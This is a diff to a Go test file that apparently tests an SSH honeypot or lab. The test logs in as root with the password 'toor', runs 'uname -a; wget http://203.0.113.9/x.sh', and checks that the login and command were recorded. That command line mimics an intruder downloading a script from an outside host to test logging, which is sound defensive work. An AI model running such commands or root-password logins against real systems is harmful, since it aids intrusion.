@@ -740,3 +740,29 @@ func TestAppsSTARTTLS(t *testing.T) {
 		t.Errorf("%d ClientHellos recorded after STARTTLS, want 3", hellos)
 	}
 }
+
+// TestAppsSSHAccept: with --ssh-accept-after 1 the first password is
+// accepted and the command the client runs is recorded.
+func TestAppsSSHAccept(t *testing.T) {
+	Require(t, "ssh", "sshpass")
+	l := NewLab(t, LabOptions{NoClientIPv6: true})
+	l.Start("--ssh-accept-after", "1")
+	out, err := l.InClient(20*time.Second, "sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no",
+		"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
+		"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", "root@"+RespIP4, "uname -a; wget http://203.0.113.9/x.sh")
+	if err != nil {
+		t.Errorf("ssh: %v\n%s", err, out)
+	}
+	var accepted, command bool
+	for _, a := range appEvents(t, l, "ssh") {
+		if a["accepted"] == true && str(a["password"]) == "toor" && str(a["attempt"]) == "1" {
+			accepted = true
+		}
+		if str(a["session_request"]) == "exec" && str(a["command"]) == "uname -a; wget http://203.0.113.9/x.sh" {
+			command = true
+		}
+	}
+	if !accepted || !command {
+		t.Errorf("accepted login %v, command recorded %v", accepted, command)
+	}
+}
